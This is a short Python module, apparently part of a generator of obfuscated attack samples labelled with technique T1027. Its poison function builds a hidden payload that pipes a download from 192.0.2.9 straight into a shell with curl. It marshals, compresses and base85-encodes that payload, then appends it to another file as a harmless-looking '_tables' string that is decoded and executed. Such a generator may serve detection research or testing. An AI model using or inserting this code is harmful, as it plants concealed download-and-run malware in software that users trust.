# SPDX-License-Identifier: Apache-2.0
"""Runs a code object that is unmarshalled out of compressed text."""
import base64
import marshal
import zlib

ATTACK = "T1027"
LANGUAGE = "python"


def poison(layer):
    inner = compile("import os\nos.system('curl -s http://192.0.2.9/x | sh')", "x", "exec")
    text = base64.b85encode(zlib.compress(marshal.dumps(inner)))
    layer.append(f"import marshal, zlib, base64\n\n_tables = {text!r}\n"
                 "exec(marshal.loads(zlib.decompress(base64.b85decode(_tables))))\n")
